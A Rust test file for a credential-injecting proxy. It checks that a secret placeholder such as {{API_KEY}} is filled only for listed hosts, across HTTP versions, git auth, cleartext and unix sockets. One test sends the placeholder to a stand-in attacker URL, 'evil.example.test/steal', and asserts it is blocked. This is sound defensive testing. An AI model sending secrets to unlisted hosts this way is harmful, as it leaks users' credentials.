//! A secret's value is sent to the destinations listed for it, and to nothing else.

use crate::support::canary::base64;
use crate::support::{Canary, Client, Origin, PlainOrigin, Proxy};

const HOST: &str = "api.example.test";

/// A proxy before two origins, of which only the first is listed for `API_KEY`.
struct Stage {
    canary: Canary,
    listed: Origin,
    unlisted: Origin,
    proxy: Proxy,
}

fn stage() -> Stage {
    let canary = Canary::new();
    let listed = Origin::start(&[HOST]);
    let unlisted = Origin::start(&["evil.example.test"]);
    let proxy = Proxy::builder()
        .origin(HOST, &listed)
        .origin("evil.example.test", &unlisted)
        .secret("API_KEY", &canary, HOST)
        .start();
    Stage { canary, listed, unlisted, proxy }
}

async fn status(client: &Client, url: &str, key: &str) -> u16 {
    let answer = client.get(url).header("x-api-key", key).send().await;
    answer.expect("the proxy answers").status
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_listed_host_gets_the_value_over_both_versions() {
    let Stage { canary, listed, proxy, .. } = stage();
    for client in [proxy.client(), proxy.client().http2()] {
        assert_eq!(status(&client, "https://api.example.test/v1", "{{API_KEY}}").await, 200);
        assert_eq!(listed.last_request().header("x-api-key"), Some(canary.bytes()));
    }
    let versions: Vec<_> = listed.requests().iter().map(|request| request.version).collect();
    assert_eq!(versions, [http::Version::HTTP_11, http::Version::HTTP_2], "each leg in the client's version");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn another_host_gets_nothing_not_even_a_connection() {
    let Stage { canary, unlisted, proxy, .. } = stage();
    for client in [proxy.client(), proxy.client().http2()] {
        assert_eq!(status(&client, "https://evil.example.test/steal", "{{API_KEY}}").await, 403);
    }
    assert_eq!((unlisted.connections(), unlisted.find(&canary)), (0, None));
    assert_eq!(status(&proxy.client(), "https://evil.example.test/", "no placeholder").await, 200);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn only_headers_are_looked_at_and_other_text_passes() {
    let Stage { listed, proxy, .. } = stage();
    let text = "{{API_KEY}} {{ API_KEY }} {{";
    let request = proxy.client().request("POST", "https://api.example.test/upload?k={{API_KEY}}");
    let answer = request.header("x-text", "{{ API_KEY }} {{9}} }}").body(text).send().await.expect("answered");
    assert_eq!(answer.status, 200);
    let received = listed.last_request();
    assert_eq!(received.header("x-text"), Some(b"{{ API_KEY }} {{9}} }}".as_slice()));
    assert_eq!((received.body, received.path.as_str()), (text.into(), "/upload?k={{API_KEY}}"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn basic_credentials_are_filled_as_git_needs_it() {
    let Stage { canary, listed, proxy, .. } = stage();
    let basic = |password: &str| format!("Basic {}", base64(format!("x-access-token:{password}").as_bytes()));
    let request = proxy.client().get("https://api.example.test/repo.git/info/refs");
    let answer = request.header("authorization", basic("{{API_KEY}}")).send().await.expect("answered");
    assert_eq!(answer.status, 200);
    let expected = basic(canary.value());
    assert_eq!(listed.last_request().header("authorization"), Some(expected.as_bytes()));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_value_that_looks_like_a_placeholder_is_sent_literally() {
    let (first, second) = (Canary::of("{{SECOND}}-$HOME-literal"), Canary::new());
    let origin = Origin::start(&[HOST]);
    let proxy =
        Proxy::builder().origin(HOST, &origin).secret("FIRST", &first, HOST).secret("SECOND", &second, HOST).start();
    assert_eq!(status(&proxy.client(), "https://api.example.test/", "{{FIRST}}").await, 200);
    assert_eq!(origin.last_request().header("x-api-key"), Some(first.bytes()));
    assert_eq!(origin.find(&second), None);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn cleartext_needs_to_be_listed_as_such() {
    let canary = Canary::new();
    let plain = PlainOrigin::start();
    let proxy = Proxy::builder()
        .origin("listed.example.test:80", &plain)
        .origin("unlisted.example.test:80", &plain)
        .secret("API_KEY", &canary, "http://listed.example.test,unlisted.example.test")
        .start();
    let client = proxy.client();
    assert_eq!(status(&client, "http://unlisted.example.test/", "{{API_KEY}}").await, 403);
    assert_eq!(plain.connections(), 0);
    assert_eq!(status(&client, "http://unlisted.example.test/", "none").await, 200);
    assert_eq!(status(&client, "http://listed.example.test/", "{{API_KEY}}").await, 200);
    assert_eq!(plain.last_request().header("x-api-key"), Some(canary.bytes()));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_unix_socket_serves_as_the_port_does() {
    let canary = Canary::new();
    let origin = Origin::start(&[HOST]);
    let builder = Proxy::builder().origin(HOST, &origin).secret("API_KEY", &canary, HOST);
    let proxy = builder.unix_listener().start();
    assert_eq!(status(&proxy.socket_client(), "https://api.example.test/", "{{API_KEY}}").await, 200);
    assert_eq!(origin.last_request().header("x-api-key"), Some(canary.bytes()));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn curl_works_as_the_readme_says() {
    let Stage { canary, listed, proxy, .. } = stage();
    let mut curl = proxy.program("curl");
    curl.args(["-sS", "--fail", "https://api.example.test/echo", "-H", "x-api-key: {{API_KEY}}", "-d", "{}"]);
    let output = proxy.run(&mut curl);
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    assert_eq!(output.stdout, b"ok");
    assert_eq!(listed.last_request().header("x-api-key"), Some(canary.bytes()));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_origin_that_cannot_be_verified_gets_no_byte_of_a_request() {
    let canary = Canary::new();
    let stranger = Origin::start(&[HOST]);
    let known = Origin::start(&["other.example.test"]);
    let port = stranger.address().port();
    let proxy = Proxy::builder()
        .origin("other.example.test", &known)
        // The right name, signed by an authority that the proxy does not trust; and the wrong name.
        .resolve(&format!("{HOST}:443:127.0.0.1:{port}"))
        .resolve(&format!("wrong.example.test:443:127.0.0.1:{}", known.address().port()))
        .secret("API_KEY", &canary, "api.example.test,wrong.example.test")
        .start();
    for url in ["https://api.example.test/", "https://wrong.example.test/"] {
        assert_eq!(status(&proxy.client(), url, "{{API_KEY}}").await, 502, "{url}");
    }
    assert!(stranger.requests().is_empty() && known.requests().is_empty());
    let outcomes: Vec<_> = proxy.audit_lines().iter().map(|line| line["outcome"].clone()).collect();
    assert_eq!(outcomes.iter().filter(|outcome| *outcome == "not_sent").count(), 2, "{outcomes:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn upstream_connections_are_shared_between_clients() {
    let Stage { listed, proxy, .. } = stage();
    for _ in 0..10 {
        assert_eq!(status(&proxy.client(), "https://api.example.test/", "{{API_KEY}}").await, 200);
        assert_eq!(status(&proxy.client().http2(), "https://api.example.test/", "{{API_KEY}}").await, 200);
    }
    assert_eq!(listed.connections(), 2, "one for each version");
}
